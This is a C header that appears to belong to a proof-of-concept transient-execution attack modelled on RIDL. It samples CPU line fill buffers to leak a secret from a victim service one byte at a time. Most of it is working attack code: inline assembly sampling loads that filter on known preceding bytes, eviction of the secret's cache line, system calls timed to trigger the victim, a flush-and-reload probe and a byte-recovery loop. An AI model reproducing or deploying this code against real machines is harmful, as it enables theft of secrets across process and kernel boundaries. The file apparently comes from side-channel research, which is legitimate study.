/*
 * Sampling of the buffers through which cache lines pass, for a byte of the secret.
 *
 * What a load receives belongs to any line that has come in lately. So it is a load of eight bytes,
 * of the wanted one and the seven before it, which are known: the mark before the secret, and what
 * has been found already. If they are not what they should be, this is another line and nothing is
 * sent; van Schaik et al. ("RIDL", 2019) likewise mask, subtract and rotate. Several loads one after
 * the other receive what several buffers hold.
 */
#ifndef BUFFERS_H
#define BUFFERS_H

#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "evict.h"
#include "record.h"
#include "secret.h"

enum { LINE_BYTES = 64, PAGE_BYTES = 4096, KNOWN_BEFORE = 7, MOST_FOUND = 64 };

/* Of a sample; where bytes go that are not the secret's, two lines that stay in the cache. */
static const uint8_t *probe;
static uint8_t elsewhere[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(64), unused));

/* What has been found, behind the mark. */
static uint8_t found[KNOWN_BEFORE + MOST_FOUND];

/* The bytes before the secret's byte at an index, the first of them lowest. */
static inline uint64_t known_before(int index)
{
	uint64_t known = 0;

	memcpy(&known, found + index, KNOWN_BEFORE);
	return known;
}

/*
 * Where in a page to load from. Only the place in the line decides what of a buffer is received. The
 * line goes round, because what the kernel stored at the same place of a page would come first.
 */
static inline int place_of_load(int index)
{
	static int line;

	line = (line + 7) % (PAGE_BYTES / LINE_BYTES);
	return line * LINE_BYTES + (options.address + index - KNOWN_BEFORE) % LINE_BYTES;
}

/*
 * Prepares that the secret comes in anew when it is used next: its line is evicted. Before that it
 * is used a few times more, so that what else its user needs is in the cache, and does not come in
 * after it.
 */
static inline void prepare_use(int index)
{
	enum { USES = 3 };

	flush_probe(probe);
	for (int i = 0; i < USES; i++)
		use_secret(index);
	evict(options.address + index, first_level_pages);
	touch(elsewhere);
	touch(elsewhere + PAGE_BYTES);
	memory_fence();
}

/*
 * Assembly: a load of eight bytes at %[address]; if the first seven are those in %[known], the last
 * is sent by %[probe], otherwise a zero by %[elsewhere]. Uses %rax, %rcx and %rdx.
 */
#define SAMPLE_BUFFER                           \
	"mov (%[address]), %%rax\n\t"           \
	"xor %[known], %%rax\n\t"               \
	"mov %%rax, %%rcx\n\t"                  \
	"shl $8, %%rcx\n\t"                     \
	"mov $0, %%ecx\n\t"                     \
	"cmovne %%rcx, %%rax\n\t"               \
	"mov %[probe], %%rcx\n\t"               \
	"cmovne %[elsewhere], %%rcx\n\t"        \
	"shr $56, %%rax\n\t"                    \
	"mov %%eax, %%edx\n\t"                  \
	"and $15, %%edx\n\t"                    \
	"shl $8, %%edx\n\t"                     \
	"movzbl (%%rcx, %%rdx), %%edx\n\t"      \
	"and $0xf0, %%eax\n\t"                  \
	"shl $4, %%eax\n\t"                     \
	"movzbl 4096(%%rcx, %%rax), %%edx\n\t"
#define SAMPLE_FOUR_BUFFERS SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER
#define SAMPLE_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS

/* A system call, then the loads that sample, for the byte at an index. */
static void call_and_sample(long number, long first, const void *second, long third, int index);

/*
 * The service may run as soon as it has been asked, before that call returns, or when its answer is
 * waited for. So every other time the one call comes right before the loads, or the other.
 */
static inline int sample(int index)
{
	static int waited;
	struct service_request request = guess_at(index);
	uint8_t answer;

	prepare_use(index);
	if (options.call) {
		call_and_sample(options.call, 0, NULL, 0, index);
	} else if ((waited = !waited)) {
		send_guess(index);
		call_and_sample(SYS_read, answers_of_service, &answer, 1, index);
	} else {
		call_and_sample(SYS_write, requests_to_service, &request, sizeof(request), index);
		receive_answer();
	}
	return reload_probe(probe);
}

/* Recovers the secret's bytes in order, as each is needed for those behind it. */
static inline void recover_in_order(void)
{
	if (options.bytes > MOST_FOUND)
		errx(2, "expected --bytes up to %d", MOST_FOUND);
	memset(found, MARK, KNOWN_BEFORE);
	for (int i = 0; i < options.bytes; i++)
		found[KNOWN_BEFORE + i] = recover_byte(i, sample, (struct patience){ .samples = 60, .lead = 2 }, 0);
	printf("done\n");
}

#endif
